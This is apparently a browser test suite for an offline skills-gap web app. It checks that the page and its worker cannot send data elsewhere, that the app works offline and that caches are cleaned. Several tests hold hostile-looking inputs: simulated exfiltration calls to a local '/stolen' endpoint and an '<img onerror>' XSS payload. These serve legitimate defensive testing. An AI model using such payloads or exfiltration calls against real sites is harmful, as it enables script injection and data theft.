import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { noBrowser } from './support/chromium.mjs';
import { listen, openSite, plainServer } from './support/site.mjs';
import { beginAsAna, goTo, openSample, settled, values } from './support/steps.mjs';

const VIEWS = ['start', 'roles', 'rate', 'readiness', 'compare', 'what-if', 'plan', 'learn'];

describe('nothing leaves the machine', { skip: noBrowser }, () => {
  let site, elsewhere, heard;
  before(async () => {
    site = await openSite();
    heard = [];
    elsewhere = await listen(createServer((request, response) => {
      heard.push(request.url);
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('heard');
    }));
  });
  after(async () => {
    await site.close();
    await elsewhere.close();
  });

  test('on the whole journey every request goes to the own origin, and only for files of the build', async () => {
    const { page, requests, errors, context } = await site.open();
    await beginAsAna(page);
    for (const view of VIEWS) await goTo(page, view);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    await page.waitForTimeout(300);
    const before = requests.length;
    await goTo(page, 'rate');
    await page.locator('.rating .level-5').first().click();
    await settled(page);
    // The browser itself looks at the icon again whenever the title changes.
    const asked = requests.slice(before).filter((url) => url !== `${site.origin}/icon.svg`);
    assert.deepEqual(asked, [], 'rating asks nothing of any server');
    const foreign = requests.filter((url) => !url.startsWith(`${site.origin}/`) && !url.startsWith('blob:'));
    assert.deepEqual(foreign, []);
    assert.ok(requests.every((url) => !new URL(url).search), 'no address carries data');
    assert.deepEqual(errors, []);
    await context.close();
  });

  test('neither the page nor its worker can connect to elsewhere', async () => {
    const { page, context } = await site.open();
    await openSample(page);
    const stolen = `${elsewhere.origin}/stolen`;
    const attempt = async (address) => {
      const tried = { fetch: () => fetch(address, { mode: 'no-cors' }) };
      if (typeof XMLHttpRequest !== 'undefined') {
        tried.request = () => new Promise((resolve, reject) => {
          const request = new XMLHttpRequest();
          request.onload = resolve;
          request.onerror = () => reject(new Error('refused'));
          request.open('GET', address);
          request.send();
        });
      }
      tried.socket = () => new Promise((resolve, reject) => {
        const socket = new WebSocket(address.replace('http', 'ws'));
        socket.onopen = resolve;
        socket.onerror = () => reject(new Error('refused'));
      });
      tried.module = () => import(/* @vite-ignore */ `${address}.js`);
      const through = [];
      for (const [name, run] of Object.entries(tried)) await run().then(() => through.push(name), () => undefined);
      return through;
    };
    assert.deepEqual(await page.evaluate(attempt, stolen), []);
    const [worker] = page.workers();
    assert.ok(worker, 'everything is computed in a worker');
    assert.deepEqual(await worker.evaluate(attempt, stolen), []);
    await page.evaluate((address) => new Promise((resolve) => {
      const image = new Image();
      image.onerror = image.onload = resolve;
      image.src = `${address}.png`;
    }), stolen);
    await page.evaluate((address) => navigator.sendBeacon(address, 'cv'), stolen);
    await page.waitForTimeout(300);
    assert.deepEqual(heard, []);
    await context.close();
  });

  test('the other server would have heard a page without the policy', async () => {
    const { page, context } = await site.open({ bypassCSP: true });
    await page.evaluate((origin) => fetch(`${origin}/control`, { mode: 'no-cors' }), elsewhere.origin);
    assert.deepEqual(heard.splice(0), ['/control']);
    await context.close();
  });

  test('data are never read as markup', async () => {
    const { page, errors, context } = await site.open();
    const name = '<img src=x onerror="window.hacked=true">';
    const document = {
      framework: { id: 'x', version: '1', titles: { en: name }, language: 'en', scales: [{ id: 's', kind: 'ordinal', minimum: 1, maximum: 5 }],
        competencies: [{ uri: 'x:a', labels: { en: name }, kind: 'skill', scale: 's' }] },
      catalogue: { framework: { id: 'x', version: '1' }, language: 'en', roles: [{ uri: 'x:r', titles: { en: name },
        scales: [{ id: 's', kind: 'ordinal', minimum: 1, maximum: 5 }], requirements: [{ competency: 'x:a', label: name, necessity: 'required', required_level: 3 }] }] },
    };
    await page.setInputFiles('#files', { name: 'company.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(document)) });
    await page.waitForSelector('#current');
    assert.equal(await page.textContent('#current-title'), name);
    await goTo(page, 'roles');
    await page.locator('#hit-0').click();
    for (const view of VIEWS) await goTo(page, view);
    assert.equal(await page.evaluate(() => window.hacked), undefined);
    assert.equal(await page.locator('main img').count(), 0);
    assert.deepEqual(errors, []);
    await context.close();
  });
});

describe('without a network', { skip: noBrowser }, () => {
  let site;
  before(async () => { site = await openSite(); });
  after(() => site.close());

  test('after the first visit the page loads and works offline, worker and all', async () => {
    const { page, errors, context } = await site.open();
    await page.waitForSelector('html[data-offline="ready"]');
    await context.setOffline(true);
    await page.reload();
    await beginAsAna(page);
    await goTo(page, 'readiness');
    assert.equal((await values(page, '.answer')).length, 1);
    assert.deepEqual(errors, []);
    await context.close();
  });

  test('the build runs under any path, from any server of files, and offline there as well', async () => {
    const plain = await plainServer('/tools/gaps/');
    const { page, errors, context } = await site.open();
    await page.goto(`${plain.origin}/tools/gaps/`);
    await page.waitForSelector('html[data-offline="ready"]');
    await openSample(page);
    await plain.close();
    await page.goto(`${plain.origin}/tools/gaps/#/roles`);
    await page.reload();
    await page.click('#to-start');
    await openSample(page);
    assert.deepEqual(errors, []);
    await context.close();
  });

  test('what an older build kept is thrown away', async () => {
    const { page, context } = await site.open();
    await page.waitForSelector('html[data-offline="ready"]');
    await page.evaluate(async () => {
      await caches.open('gap-explorer-older');
      await caches.open('somebody-else');
      const registration = await navigator.serviceWorker.getRegistration();
      await registration.unregister();
    });
    await page.reload();
    await page.waitForSelector('html[data-offline="ready"]');
    await page.waitForFunction(async () => !(await caches.keys()).includes('gap-explorer-older'));
    const names = await page.evaluate(() => caches.keys());
    assert.ok(names.includes('somebody-else'));
    assert.equal(names.filter((name) => name.startsWith('gap-explorer-')).length, 1);
    await context.close();
  });
});
